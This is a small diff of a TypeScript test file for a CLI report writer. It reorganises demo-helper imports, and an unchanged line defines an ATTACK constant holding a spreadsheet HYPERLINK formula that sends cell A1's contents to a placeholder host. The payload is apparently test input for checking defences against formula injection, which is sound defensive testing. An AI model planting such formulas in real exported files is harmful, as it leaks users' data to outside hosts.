@@ -10,8 +10,9 @@ import type { Design } from '../../../shared-model/index.ts';
 import { runCli } from '../../../src-main/cli/main.ts';
 import { EXIT } from '../../../src-main/cli/io.ts';
 import { reportPaths, writeReportFiles } from '../../../src-main/report/write-report.ts';
-import { demoDesign, designText } from '../../shared-model/report/demo.ts';
-import { demoText, memoryIo } from './memory-io.ts';
+import { designText } from '../../shared-model/report/demo.ts';
+import { memoryIo } from './memory-io.ts';
+import { demoDesign, demoText } from '../../helpers/demo.ts';
 
 const ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"x")';
 
